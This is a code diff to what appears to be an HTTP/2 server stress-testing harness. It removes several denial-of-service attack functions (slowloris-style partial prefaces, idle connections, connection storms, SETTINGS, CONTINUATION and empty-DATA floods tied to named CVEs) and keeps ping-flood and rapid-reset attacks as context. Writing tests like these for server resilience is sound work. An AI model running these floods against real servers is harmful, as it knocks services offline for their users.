@@ -36,44 +36,9 @@ async def silent_sockets(target: Target) -> None:
 
 
 @attack()
-async def half_prefaces(target: Target) -> None:
-    """500 connections that send their preface, one byte at a time, and never all of it."""
-
-    async def trickle(connection: RawConnection) -> None:
-        for number in range(len(http2.PREFACE) - 1):
-            await connection.send(http2.PREFACE[number : number + 1])
-            await asyncio.sleep(0.1)
-
-    await target.hold_connections(500, trickle, preface=False)
-
-
-@attack()
-async def idle_connections(target: Target) -> None:
-    """1,500 connections that shake hands, and then make no call."""
-    await target.hold_connections(_SILENT)
-
-
-@attack()
-async def connect_storm(target: Target) -> None:
-    """Connections that are closed as soon as they are open, 50 at a time."""
-
-    async def send() -> None:
-        async with target.raw(reads=False):
-            pass
-
-    await target.flood(send, 50)
-
-
-@attack()
 async def ping_flood(target: Target) -> None:
     """PINGs, each to be answered (CVE-2019-9512)."""
     await _flood(target, "pings", lambda _: [http2.frame(http2.PING, bytes(8))] * _FRAMES)
-
-
-@attack()
-async def settings_flood(target: Target) -> None:
-    """SETTINGS, each to be answered (CVE-2019-9515)."""
-    await _flood(target, "settings", lambda _: [http2.frame(http2.SETTINGS)] * _FRAMES)
 
 
 @attack()
@@ -90,30 +55,3 @@ async def rapid_reset(target: Target) -> None:
         return frames
 
     await _flood(target, "calls reset", frames)
-
-
-@attack()
-async def continuations(target: Target) -> None:
-    """Headers that continue in CONTINUATION frames without an end (CVE-2024-27316)."""
-
-    def frames(connection: RawConnection) -> list[bytes]:
-        stream, _ = connection.call(_PATH)
-        block = http2.literal("x-a", "b" * 100) * 100
-        first = http2.frame(http2.HEADERS, http2.call_headers(_PATH), stream=stream)
-        return [first, *[http2.frame(http2.CONTINUATION, block, stream=stream)] * 50]
-
-    await _flood(target, "frames of headers", frames)
-
-
-@attack()
-async def empty_frames(target: Target) -> None:
-    """DATA frames without data, which no window limits (CVE-2019-9518)."""
-    opened: dict[RawConnection, int] = {}
-
-    def frames(connection: RawConnection) -> list[bytes]:
-        headers = b""
-        if connection not in opened:
-            opened[connection], headers = connection.call(_PATH, target.metadata)
-        return [headers, *[http2.frame(http2.DATA, stream=opened[connection])] * _FRAMES]
-
-    await _flood(target, "empty frames", frames)
